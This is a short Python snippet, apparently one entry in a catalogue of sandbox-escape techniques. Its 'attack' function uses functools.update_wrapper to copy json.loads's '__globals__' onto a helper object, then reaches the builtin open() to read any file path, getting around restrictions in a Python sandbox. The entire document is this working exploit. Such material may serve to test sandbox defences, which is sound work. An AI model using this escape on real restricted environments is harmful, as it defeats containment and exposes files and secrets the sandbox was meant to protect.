# `update_wrapper` copies attributes by name.
# after: read
# source: own
import json
from functools import update_wrapper
class Catcher:
    def __setattr__(self, name, value):
        self.__dict__[name] = value
def attack(path, **_):
    catcher = Catcher()
    update_wrapper(catcher, json.loads, assigned=("__globals__",), updated=())
    return {"text": vars(catcher)["__globals__"]["__builtins__"]["open"](path).read()}
